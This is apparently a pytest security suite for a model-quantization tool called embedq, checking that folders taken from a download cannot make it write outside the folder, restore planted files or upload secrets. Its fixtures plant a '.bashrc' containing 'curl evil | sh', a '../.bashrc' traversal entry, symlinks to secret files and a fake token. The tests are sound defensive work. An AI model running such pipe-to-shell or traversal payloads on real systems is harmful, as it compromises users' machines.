"""Issue #12: a folder from a download must never make embedq write, read or replace
anything outside its role. Each test first stages the attack (or the careless run) on a
tiny model, then asserts the safe outcome: nothing outside the folder created or
changed, the source intact, the newer config kept, one error line, exit 2.

Item 4 (ONNX external data) is covered with the ONNX back end, not here.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
from pathlib import Path

import pytest
import torch

import embedq
from embedq.errors import EmbedqError, OverlayError
from secutil import (assert_refused, cli_subprocess, read_qconfig, run_cli, set_source_row,
                     tamper_overlay, tree, write_qconfig)


@pytest.fixture
def qwen(model_factory):
    return model_factory("qwen2_tied")


@pytest.fixture
def llama(model_factory):
    return model_factory("llama_untied_sharded")


# --- 1. remove / a failing quantize writes outside the folder --------------------------

def test_1_state_json_cannot_name_files_outside(qwen):
    embedq.quantize(qwen, 8, progress=False)
    st = qwen / ".embedq" / "state.json"
    st.write_text(json.dumps({"files": ["config.json", "../.bashrc"], "format_version": 1}))
    (qwen / ".embedq" / ".bashrc").write_text("curl evil | sh\n")
    parent_before, before = tree(qwen.parent), tree(qwen)
    assert_refused(run_cli("remove", qwen), "state.json", "../.bashrc")
    assert not (qwen.parent / ".bashrc").exists()
    assert tree(qwen.parent) == parent_before and tree(qwen) == before
    with pytest.raises(OverlayError):
        embedq.remove(qwen)


def test_1_backup_through_a_link_is_refused(qwen, tmp_path):
    embedq.quantize(qwen, 8, progress=False)
    secret = tmp_path / "secret.json"
    secret.write_text('{"stolen": true}')
    (qwen / ".embedq" / "config.json").unlink()
    (qwen / ".embedq" / "config.json").symlink_to(secret)
    before = tree(qwen)
    assert_refused(run_cli("remove", qwen), "link")
    assert tree(qwen) == before and "stolen" not in (qwen / "config.json").read_text()


def test_1_state_json_names_only_the_two_backed_up_files(qwen):
    """A name inside the folder is refused too: only config.json and the index are restored."""
    embedq.quantize(qwen, 8, progress=False)
    st = qwen / ".embedq" / "state.json"
    st.write_text(json.dumps({"files": ["config.json", "model.safetensors"], "format_version": 1}))
    (qwen / ".embedq" / "model.safetensors").write_bytes(b"planted weights")
    before = tree(qwen)
    assert_refused(run_cli("remove", qwen), "state.json", "model.safetensors", "backs up only")
    assert tree(qwen) == before


def test_1_backup_that_is_a_fifo_is_refused_without_waiting(qwen):
    """Backups are read as regular files only: a FIFO (which a plain open would wait on
    forever for a writer) is one error line, in a real process with a timeout."""
    embedq.quantize(qwen, 8, progress=False)
    (qwen / ".embedq" / "config.json").unlink()
    os.mkfifo(qwen / ".embedq" / "config.json")
    before = tree(qwen)
    r = cli_subprocess("remove", qwen, timeout=60)
    assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr
    assert r.stderr.startswith("embedq: error:") and "not a backup embedq wrote" in r.stderr, r.stderr
    assert tree(qwen) == before


def test_1_state_folder_that_is_a_link_is_refused(qwen, tmp_path):
    """``.embedq`` itself must not be a link: its backups would be read (and its lock and
    state written) wherever it leads."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "config.json").write_text('{"stolen": true}')
    (elsewhere / "state.json").write_text(json.dumps({"files": ["config.json"], "format_version": 1}))
    (qwen / ".embedq").symlink_to(elsewhere, target_is_directory=True)
    before, outside = tree(qwen), tree(elsewhere)
    for args in (("remove", qwen), ("quantize", qwen, "-q")):
        assert_refused(run_cli(*args), str(qwen / ".embedq"), "a link")
    assert tree(qwen) == before and tree(elsewhere) == outside


def test_1_failing_quantize_with_planted_backup_restores_nothing_foreign(llama):
    """A planted backup index ``{}`` (KeyError 'weight_map' before) does not match the
    disk: it is ignored, the current files are backed up, remove restores them."""
    orig = {n: (llama / n).read_bytes() for n in ("config.json", "model.safetensors.index.json")}
    d = llama / ".embedq"
    d.mkdir()
    (d / "config.json").write_bytes(orig["config.json"])
    (d / "model.safetensors.index.json").write_text("{}")
    (d / "state.json").write_text(json.dumps({"files": ["config.json", "model.safetensors.index.json"]}))
    code, out, exc = run_cli("quantize", llama, "-q")
    assert code == 0, (out, exc)
    assert "stale backup" in out
    code, out, exc = run_cli("remove", llama)
    assert code == 0, out
    for n, data in orig.items():
        assert (llama / n).read_bytes() == data
    assert not d.exists()


# --- 2. --output PARENT_OF_SRC --force deletes the source ------------------------------

@pytest.mark.parametrize("where", ["same", "link to it", "parent", "inside", "grandparent"])
def test_2_output_never_holds_or_sits_in_the_source(qwen, where):
    (qwen.parent / "sibling.txt").write_text("keep me")
    if where == "link to it":
        (qwen.parent / "alias").symlink_to(qwen, target_is_directory=True)
    out = {"same": qwen, "link to it": qwen.parent / "alias", "parent": qwen.parent, "inside": qwen / "out",
           "grandparent": qwen.parent.parent}[where]
    before = tree(qwen.parent)
    assert_refused(run_cli("quantize", qwen, "--output", out, "--force", "-q"), "source folder")
    assert tree(qwen.parent) == before
    assert (qwen.parent / "sibling.txt").read_text() == "keep me"


def test_2_force_replaces_only_an_embedq_output_or_an_empty_folder(qwen, tmp_path):
    victim = tmp_path / "photos"
    victim.mkdir()
    (victim / "cat.jpg").write_bytes(b"meow")
    assert_refused(run_cli("quantize", qwen, "--output", victim, "--force", "-q"), "not a folder embedq wrote")
    assert (victim / "cat.jpg").read_bytes() == b"meow"
    empty = tmp_path / "empty"
    empty.mkdir()
    assert run_cli("quantize", qwen, "--output", empty, "-q")[0] == 0
    assert (empty / ".embedq-output").is_file()
    # an earlier embedq output is replaced with --force
    code, out, exc = run_cli("quantize", qwen, "--output", empty, "--force", "--bits", "4", "-q")
    assert code == 0, (out, exc)
    assert read_qconfig(empty)["modules"]["model.embed_tokens"]["num_bits"] == 4


# --- 3. a stale backup reverts an updated config.json ----------------------------------

def test_3_stale_backup_never_reverts_a_newer_config(qwen):
    embedq.quantize(qwen, 8, progress=False)
    # the model is updated: new config.json, overlay files gone (e.g. re-downloaded)
    cfg = json.loads((qwen / ".embedq" / "config.json").read_text())
    cfg["rope_theta"] = 12345.0
    (qwen / "config.json").write_text(json.dumps(cfg, indent=1))
    for n in ("embedq.safetensors", "quantization_config.json"):
        (qwen / n).unlink()
    newer = (qwen / "config.json").read_bytes()
    before = tree(qwen)
    # remove refuses the stale backup and keeps the newer config
    assert_refused(run_cli("remove", qwen), "does not match", "config.json")
    assert tree(qwen) == before
    # quantize again: the stale backup is replaced by the current files, with a warning
    code, out, exc = run_cli("quantize", qwen, "-q")
    assert code == 0, (out, exc)
    assert "stale backup" in out
    assert run_cli("remove", qwen)[0] == 0
    assert (qwen / "config.json").read_bytes() == newer


def test_3_stale_index_backup_is_never_restored(llama):
    """Likewise the index: one changed after the backup (beyond the overlay's entries) makes
    the backup stale; remove keeps the newer index and config."""
    embedq.quantize(llama, 8, progress=False)
    ip = llama / "model.safetensors.index.json"
    index = json.loads(ip.read_text())
    index["metadata"]["total_size"] = index["metadata"].get("total_size", 0) + 1  # a new revision
    ip.write_text(json.dumps(index))
    before = tree(llama)
    assert_refused(run_cli("remove", llama), "does not match", "model.safetensors.index.json was changed")
    assert tree(llama) == before


# --- 5. an embedding overlay replaces other weights ------------------------------------

def _bundle(qwen, tmp_path, **kw):
    out = tmp_path / "bundle"
    embedq.quantize(qwen, kw.pop("bits", 8), output=out, overlay_only=True, progress=False, **kw)
    return out


def test_5_bundle_with_extra_tensor_is_not_applied(qwen, model_factory, tmp_path):
    bundle = _bundle(qwen, tmp_path)
    tamper_overlay(bundle, lambda t: t.__setitem__("model.layers.0.mlp.down_proj.weight",
                                                    torch.zeros(64, 128, dtype=torch.bfloat16)))
    base = model_factory("qwen2_tied")
    before = tree(base)
    assert_refused(run_cli("apply", base, "--overlay", bundle), "model.layers.0.mlp.down_proj.weight",
                   "does not declare")
    assert tree(base) == before


def test_5_in_place_overlay_with_extra_tensor_fails_verify_and_load(qwen):
    embedq.quantize(qwen, 8, progress=False)
    tamper_overlay(qwen, lambda t: t.__setitem__("model.layers.0.mlp.down_proj.weight",
                                                  torch.zeros(64, 128, dtype=torch.bfloat16)))
    assert_refused(run_cli("verify", qwen), "does not declare")
    with pytest.raises(OverlayError, match="does not declare"):
        embedq.load_overlay(qwen)
    with pytest.raises(OverlayError, match="does not declare"):
        embedq.load(qwen)


def test_5_index_mapping_other_weights_to_the_overlay_fails_verify(llama):
    embedq.quantize(llama, 8, progress=False)
    ip = llama / "model.safetensors.index.json"
    index = json.loads(ip.read_text())
    index["weight_map"]["model.layers.0.mlp.down_proj.weight"] = "embedq.safetensors"
    ip.write_text(json.dumps(index))
    assert_refused(run_cli("verify", llama), "model.layers.0.mlp.down_proj.weight", "does not declare")


def test_5_module_entry_for_a_non_embedding_is_refused(qwen, model_factory, tmp_path):
    bundle = _bundle(qwen, tmp_path)
    cfg = read_qconfig(bundle)
    e = cfg["modules"].pop("model.embed_tokens")
    e["role"] = "head"
    e["source"]["tensor"] = "model.layers.0.mlp.down_proj.weight"
    cfg["modules"]["model.layers.0.mlp.down_proj"] = e
    cfg["aliases"] = {}
    cfg.pop("onnx")
    write_qconfig(bundle, cfg)
    base = model_factory("qwen2_tied")
    before = tree(base)
    assert_refused(run_cli("apply", base, "--overlay", bundle), "model.layers.0.mlp.down_proj",
                   "quantization_config.json")
    assert tree(base) == before
    embedq.quantize(qwen, 8, progress=False)
    write_qconfig(qwen, cfg)
    assert_refused(run_cli("verify", qwen), "model.layers.0.mlp.down_proj")
    with pytest.raises(OverlayError):
        embedq.load_overlay(qwen)
    with pytest.raises(OverlayError, match="model.layers.0.mlp.down_proj"):
        embedq.load(qwen)


def test_5_apply_only_on_the_bases_own_tables(model_factory, tmp_path):
    """An embedding-named module whose source is not the base's embedding is refused."""
    llama = model_factory("llama_untied_sharded")
    bundle = tmp_path / "b"
    embedq.quantize(llama, 8, output=bundle, overlay_only=True, progress=False)
    base = model_factory("llama_untied_sharded")
    cfg = read_qconfig(bundle)
    assert set(cfg["modules"]) == {"model.embed_tokens"}
    embedq.apply(base, bundle)  # the genuine bundle applies
    embedq.remove(base)


# --- 6. malformed configs: one line, never a traceback ---------------------------------

def _mut(path, value):
    def f(cfg):
        d = cfg
        for k in path[:-1]:
            d = d[k]
        d[path[-1]] = value
        return cfg
    return f


M = ("modules", "model.embed_tokens")
MALFORMED = {
    "num_bits_abc": _mut(M + ("num_bits",), "abc"),
    "num_bits_2": _mut(M + ("num_bits",), 2),
    "num_bits_true": _mut(M + ("num_bits",), True),
    "group_size_str": _mut(M + ("group_size",), "32"),
    "group_size_huge": _mut(M + ("group_size",), 2 ** 40),
    "group_size_neg": _mut(M + ("group_size",), -8),
    "group_size_7": _mut(M + ("group_size",), 7),
    "shape_float": _mut(M + ("shape",), [512.0, 64.0]),
    "shape_huge": _mut(M + ("shape",), [2 ** 40, 64]),
    "shape_wrong": _mut(M + ("shape",), [256, 64]),
    "shape_3d": _mut(M + ("shape",), [512, 64, 1]),
    "checksums_list": _mut(M + ("checksums",), ["x"]),
    "checksums_foreign": _mut(M + ("checksums",), {"model.layers.0.weight": "0" * 64}),
    "entry_int": _mut(M, 7),
    "aliases_str": _mut(("aliases",), "abc"),
    "aliases_dangling": _mut(("aliases",), {"lm_head": "nowhere"}),
    "top_list": lambda cfg: [cfg],
    "symmetric_str": _mut(M + ("symmetric",), "yes"),
    "scale_dtype_bad": _mut(M + ("scale_dtype",), "float64"),
    "method_bad": _mut(M + ("method",), "magic"),
    "role_bad": _mut(M + ("role",), "lm"),
    "strategy_mismatch": _mut(M + ("strategy",), "group"),
    "source_str": _mut(M + ("source",), "model.embed_tokens.weight"),
    "source_sha_bad": _mut(M + ("source", "blake3"), "zz"),
    "source_digest_of_other_version": _mut(M + ("source", "sha256"), "0" * 64),
    "overlay_path": _mut(("overlay",), "../model.safetensors"),
    "format_version_str": _mut(("format_version",), "1"),
    "modules_empty": _mut(("modules",), {}),
    "tie_str": _mut(("tie_word_embeddings",), "yes"),
    "onnx_forged": _mut(("onnx",), {"model.embed_tokens": {"op": "X", "bits": 8, "block_size": 3}}),
    "base_qc_embedq": _mut(("base_quantization_config",), {"quant_method": "embedq"}),
}


@pytest.fixture(scope="module")
def quantized_pair(tmp_path_factory, model_factory):
    """(in-place quantized folder, overlay-only bundle) of qwen2_tied, made once."""
    src = model_factory("qwen2_tied")
    bundle = tmp_path_factory.mktemp("bundle") / "b"
    embedq.quantize(src, 8, group_size=0, output=bundle, overlay_only=True, progress=False)  # per row: the mutations assume it
    embedq.quantize(src, 8, group_size=0, progress=False)
    return src, bundle


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_6_malformed_config_verify_and_apply(name, quantized_pair, model_factory, tmp_path):
    import copy
    src, bundle = quantized_pair
    folder = tmp_path / "inplace"
    shutil.copytree(src, folder, symlinks=True)
    good = read_qconfig(folder)
    bad = MALFORMED[name](copy.deepcopy(good))
    write_qconfig(folder, bad)
    files = ("quantization_config.json", "embedq.safetensors", "model.safetensors")
    line = assert_refused(run_cli("verify", folder))
    assert any(f in line for f in files), line
    with pytest.raises(EmbedqError):
        embedq.verify(folder)
    b2 = tmp_path / "bundle"
    shutil.copytree(bundle, b2)
    (b2 / "quantization_config.json").write_text(json.dumps(MALFORMED[name](copy.deepcopy(read_qconfig(bundle)))))
    base = model_factory("qwen2_tied")
    before = tree(base)
    line = assert_refused(run_cli("apply", base, "--overlay", b2))
    assert any(f in line for f in files), line
    assert tree(base) == before


def test_6_bundle_data_offsets_beyond_the_shape(quantized_pair, model_factory, tmp_path):
    import struct
    _, bundle = quantized_pair
    b2 = tmp_path / "b"
    shutil.copytree(bundle, b2)
    f = b2 / "embedq.safetensors"
    raw = f.read_bytes()
    (n,) = struct.unpack("<Q", raw[:8])
    header = json.loads(raw[8:8 + n])
    k = "model.embed_tokens.weight_scale"
    b, e = header[k]["data_offsets"]
    header[k]["data_offsets"] = [b, e + 64]  # claims more bytes than its shape holds
    hb = json.dumps(header).encode()
    hb += b" " * (-len(hb) % 8)
    f.write_bytes(struct.pack("<Q", len(hb)) + hb + raw[8 + n:] + b"\0" * 64)
    base = model_factory("qwen2_tied")
    before = tree(base)
    assert_refused(run_cli("apply", base, "--overlay", b2), "data_offsets")
    assert tree(base) == before


def test_6_config_errors_name_the_file_not_a_flag(quantized_pair, tmp_path):
    src, _ = quantized_pair
    folder = tmp_path / "f"
    shutil.copytree(src, folder, symlinks=True)
    cfg = read_qconfig(folder)
    cfg["modules"]["model.embed_tokens"]["num_bits"] = 2
    write_qconfig(folder, cfg)
    line = assert_refused(run_cli("verify", folder), "quantization_config.json", "num_bits")
    assert "--bits" not in line


# --- 7. NaN / inf ------------------------------------------------------------------------

@pytest.mark.parametrize("value,word", [(float("inf"), "infinity"), (float("nan"), "NaN")])
def test_7_non_finite_source_row_is_refused(qwen, value, word):
    set_source_row(qwen, "model.embed_tokens.weight", 37, value)
    before = tree(qwen)
    assert_refused(run_cli("quantize", qwen, "-q"), "row 37", word, "model.embed_tokens.weight")
    assert tree(qwen) == before
    assert_refused(run_cli("quantize", qwen, "-q", "--output", qwen.parent / "o"), "row 37")
    assert not (qwen.parent / "o").exists()


@pytest.mark.parametrize("how", ["nan", "inf", "x1000", "reconstructs to inf"])
def test_7_tampered_scales_fail_verify(qwen, how):
    embedq.quantize(qwen, 8, progress=False)
    k = "model.embed_tokens.weight_scale"

    def f(t):
        if how == "x1000":
            t[k] = t[k] * 1000
        elif how == "reconstructs to inf":  # a finite bf16 scale whose codes overflow float32
            t[k][5, 0] = 3e38
        else:
            t[k][5, 0] = float(how)
    tamper_overlay(qwen, f)
    res = run_cli("verify", qwen)
    assert_refused(res, "model.embed_tokens")
    with pytest.raises(OverlayError):
        embedq.verify(qwen)


def test_7_error_stats_keep_nan_visible():
    from embedq.quant.stream import ErrorStats
    s = ErrorStats()
    s.add(0.1, 0.01, 1.0, 10)
    s.add(float("nan"), float("nan"), 1.0, 10)
    assert not s.finite and s.max_abs == float("inf")


# --- 8. push uploads what it should not ----------------------------------------------------

def test_8_push_uploads_only_the_model(qwen, tmp_path):
    out = tmp_path / "derived"
    embedq.quantize(qwen, 8, output=out, progress=False)
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$...")
    (out / "hf_token.txt").write_text("hf_xxx")
    (out / "wandb").mkdir()
    (out / "wandb" / "run.log").write_text("log")
    (out / "tokenizer.json").symlink_to(secret)  # an allowed name leading out of the folder
    res = embedq.push(out, "me/model", dry_run=True)
    names = {p for p, _ in res.files}
    assert "hf_token.txt" not in names and not any(n.startswith("wandb") for n in names)
    assert "tokenizer.json" not in names
    assert any("tokenizer.json (a link out of the folder)" in s for s in res.skipped)
    assert {"config.json", "embedq.safetensors", "model.safetensors", "quantization_config.json"} <= names
    assert any("--private" in w for w in res.warnings)
    res = embedq.push(out, "me/model", dry_run=True, include=["*.txt"])
    assert "hf_token.txt" in {p for p, _ in res.files}
    code, text, _ = run_cli("push", out, "--repo-id", "me/model", "--dry-run")
    assert code == 0 and "--private" in text


def test_8_hf_cache_links_still_upload(tmp_path, qwen):
    """A cache snapshot's links into its own blobs/ are part of the folder."""
    out = tmp_path / "d"
    embedq.quantize(qwen, 8, output=out, progress=False)
    repo = tmp_path / "cache" / "models--me--m"
    snap = repo / "snapshots" / ("a" * 40)
    (repo / "blobs").mkdir(parents=True)
    snap.mkdir(parents=True)
    for f in out.iterdir():
        if f.is_file() and not f.name.startswith("."):
            blob = repo / "blobs" / f.name.replace(".", "_")
            shutil.copy(f, blob)
            (snap / f.name).symlink_to(Path("../..") / "blobs" / blob.name)
    res = embedq.push(snap, "me/model", dry_run=True)
    assert "model.safetensors" in {p for p, _ in res.files}


# --- 9. the folder lock ------------------------------------------------------------------

def test_9_second_run_is_told_who_holds_the_lock(qwen):
    from embedq.jobs.state import folder_lock
    before = tree(qwen)
    with folder_lock(qwen, "test"):
        line = assert_refused(run_cli("quantize", qwen, "-q"), "another embedq run", f"pid {os.getpid()}")
        assert "test" in line
        assert_refused(run_cli("remove", qwen), "another embedq run")
        bundle = qwen.parent / "lock-bundle"
        embedq.quantize(qwen, 8, output=bundle, overlay_only=True, progress=False)  # reads only
        assert_refused(run_cli("apply", qwen, "--overlay", bundle), "another embedq run", f"pid {os.getpid()}")
    assert tree(qwen) == before  # the lock leaves nothing behind


def test_9_concurrent_quantize_runs(qwen):
    import subprocess
    import sys
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    procs = [subprocess.Popen([sys.executable, "-m", "embedq.cli", "quantize", str(qwen), "-q"],
                              env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for _ in range(2)]
    results = [(p.wait(timeout=600), p.stderr.read()) for p in procs]
    assert any(rc == 0 for rc, _ in results), results
    for rc, err in results:
        assert rc in (0, 2), err
        if rc == 2:
            assert "another embedq run" in err or "already has an embedq overlay" in err, err
        assert "Traceback" not in err
    assert run_cli("verify", qwen)[0] == 0


# --- 10. the smaller ones ------------------------------------------------------------------

def test_10_targets_one_name_on_untied_model(llama):
    code, out, exc = run_cli("quantize", llama, "--targets", "model.embed_tokens.weight", "-q")
    assert code == 0, (out, exc)
    assert set(read_qconfig(llama)["modules"]) == {"model.embed_tokens"}


def test_10_targets_three_names_or_a_non_embedding(llama):
    before = tree(llama)
    assert_refused(run_cli("quantize", llama, "--targets",
                           "model.embed_tokens.weight,lm_head.weight,model.norm.weight", "-q"),
                   "--targets", "3 names")
    assert_refused(run_cli("quantize", llama, "--targets", "model.layers.0.mlp.down_proj.weight", "-q"),
                   "model.layers.0.mlp.down_proj.weight", "not an input or output embedding")
    assert tree(llama) == before


def test_10_vocab_size_larger_than_the_table(qwen):
    cfg = json.loads((qwen / "config.json").read_text())
    cfg["vocab_size"] = 600
    (qwen / "config.json").write_text(json.dumps(cfg))
    before = tree(qwen)
    assert_refused(run_cli("quantize", qwen, "-q"), "vocab_size", "512 rows")
    assert tree(qwen) == before


def test_10_chunk_rows_misfit(qwen):
    before = tree(qwen)
    assert_refused(run_cli("quantize", qwen, "--chunk-rows", "7", "-q"), "--chunk-rows 7")
    assert_refused(run_cli("quantize", qwen, "--chunk-rows", "-64", "-q"), "--chunk-rows")
    assert tree(qwen) == before


def test_10_remove_keeps_hf_cache_links(qwen, tmp_path):
    repo = tmp_path / "hub" / "models--me--m"
    snap = repo / "snapshots" / ("b" * 40)
    (repo / "blobs").mkdir(parents=True)
    snap.mkdir(parents=True)
    for f in qwen.iterdir():
        blob = repo / "blobs" / ("blob_" + f.name)
        shutil.copy(f, blob)
        (snap / f.name).symlink_to(Path("../..") / "blobs" / blob.name)
    blobs, before = tree(repo / "blobs"), tree(snap)
    assert run_cli("quantize", snap, "-q")[0] == 0
    assert tree(repo / "blobs") == blobs  # never written through
    assert run_cli("verify", snap)[0] == 0
    assert run_cli("remove", snap)[0] == 0
    assert tree(snap) == before and (snap / "config.json").is_symlink()
    assert tree(repo / "blobs") == blobs


def test_10_no_space_while_backing_up_leaves_no_state_dir(qwen, monkeypatch):
    import embedq.jobs.state as st
    real = st.write_bytes_atomic

    def full(p, data):
        if p.parent.name == ".embedq":
            raise OverlayError(f"{p}: cannot write: {os.strerror(errno.ENOSPC)}")
        return real(p, data)
    monkeypatch.setattr(st, "write_bytes_atomic", full)
    before = tree(qwen)
    assert_refused(run_cli("quantize", qwen, "-q"), "No space left")
    assert not (qwen / ".embedq").exists() and tree(qwen) == before


def test_cli_subprocess_error_has_no_traceback(qwen):
    r = cli_subprocess("quantize", qwen, "--output", qwen.parent, "--force", "-q")
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert r.stderr.strip().count("\n") == 0 and r.stderr.startswith("embedq: error:")
